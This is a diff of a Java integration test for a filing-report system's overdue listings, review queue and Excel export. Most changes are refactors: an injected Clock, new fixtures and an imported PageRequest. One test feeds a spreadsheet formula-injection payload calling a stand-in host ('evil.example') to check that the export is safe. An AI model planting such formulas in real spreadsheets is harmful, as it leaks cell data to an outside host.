@@ -11,6 +11,7 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
 
 import java.io.ByteArrayInputStream;
+import java.time.Clock;
 import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
@@ -25,6 +26,7 @@ import org.inspectorate.organisation.Organisations;
 import org.inspectorate.organisation.Province;
 import org.inspectorate.organisation.Role;
 import org.inspectorate.support.DatabaseTest;
+import org.inspectorate.system.PageRequest;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.jdbc.core.simple.JdbcClient;
@@ -37,6 +39,9 @@ class FilingReportsIntegrationTest {
 
     private static final Province HOME = Province.QINGHAI;
     private static final Province OTHER = Province.NINGXIA;
+
+    @Autowired
+    private Clock clock;
 
     @Autowired
     MockMvc mvc;
@@ -84,7 +89,7 @@ class FilingReportsIntegrationTest {
     private List<Long> knownUnits(Actor operator, Actor officer, String prefix) {
         List<Long> ids = new ArrayList<>();
         for (int i = 0; i < 5; i++) {
-            ids.add(units.create(operator, FilingFixtures.unit(prefix + "-" + i)).id());
+            ids.add(units.create(operator, NetworkUnitFixtures.unitInput(prefix + "-" + i)).id());
         }
         units.submit(operator, ids.get(2), 0);
         NetworkUnit returned = units.submit(operator, ids.get(3), 0);
@@ -143,22 +148,18 @@ class FilingReportsIntegrationTest {
         Actor otherOperator = actor(OrganisationType.INTERNET_ENTERPRISE, OTHER, Role.OPERATOR_ADMIN);
         List<Long> home = knownUnits(operator, officer, "逾期");
         List<Long> other = knownUnits(otherOperator, otherOfficer, "他省逾期");
-        UnitInput fresh = FilingFixtures.unit("未到期");
-        fresh = new UnitInput(fresh.name(), fresh.category(), fresh.description(), fresh.keyLocations(),
-                fresh.responsiblePerson(), fresh.responsibleContact(), fresh.gradeLevel(), fresh.gradingReasoning(),
-                LocalDate.now().minusDays(2).toString(), null, null, null, null, null, fresh.lifecycleStage(),
-                fresh.assets());
-        long notDue = units.create(operator, fresh).id();
+        long notDue = units.create(operator,
+                NetworkUnitFixtures.minimalUnitInput("未到期", LocalDate.now(clock).minusDays(2))).id();
 
         List<Long> listed = new ArrayList<>();
         for (int page = 0; ; page++) {
             var result = reports.overdue(officer, new FilingReports.OverdueQuery(null, null, null, null),
-                    new org.inspectorate.system.PageRequest(page, 200, "dueOn", true));
+                    new PageRequest(page, 200, "dueOn", true));
             result.items().forEach(f -> listed.add(f.unitId()));
             assertThat(result.items()).allSatisfy(f -> {
                 assertThat(f.provinceCode()).isEqualTo(HOME.code());
                 assertThat(f.state()).isNotEqualTo(FilingState.FILED);
-                assertThat(f.dueOn()).isBefore(LocalDate.now());
+                assertThat(f.dueOn()).isBefore(LocalDate.now(clock));
                 assertThat(f.daysOverdue()).isPositive();
             });
             if (!result.hasNext()) {
@@ -181,7 +182,7 @@ class FilingReportsIntegrationTest {
         Actor officer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, HOME, Role.PROVINCIAL_OFFICER);
         Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
         String evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")-" + org.inspectorate.support.Codes.username("n").replace("_", "");
-        NetworkUnit unit = units.create(operator, FilingFixtures.unit(evil));
+        NetworkUnit unit = units.create(operator, NetworkUnitFixtures.unitInput(evil));
         units.submit(operator, unit.id(), unit.version());
 
         byte[] queue = call(officer, get("/filings/review-queue.xlsx").param("q", evil.substring(evil.length() - 12)))
@@ -220,14 +221,14 @@ class FilingReportsIntegrationTest {
         Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
         String tag = org.inspectorate.support.Codes.username("q").replace("_", "");
         for (String name : List.of("B-" + tag, "A-" + tag)) {
-            NetworkUnit u = units.create(operator, FilingFixtures.unit(name));
+            NetworkUnit u = units.create(operator, NetworkUnitFixtures.unitInput(name));
             units.submit(operator, u.id(), u.version());
         }
         var page = units.reviewQueue(officer, new UnitQuery(null, GradeLevel.LEVEL_3_1, null, tag),
-                new org.inspectorate.system.PageRequest(0, 20, "name", true));
+                new PageRequest(0, 20, "name", true));
         assertThat(page.items()).extracting(NetworkUnitSummary::name).containsExactly("A-" + tag, "B-" + tag);
         assertThat(units.reviewQueue(officer, new UnitQuery(null, GradeLevel.LEVEL_4, null, tag),
-                new org.inspectorate.system.PageRequest(0, 20, null, true)).total()).isZero();
+                new PageRequest(0, 20, null, true)).total()).isZero();
         call(officer, get("/filings/review-queue").param("q", tag).param("level", "3.1").param("sort", "name"))
                 .andExpect(status().isOk()).andExpect(content().string(containsString("A-" + tag)));
     }
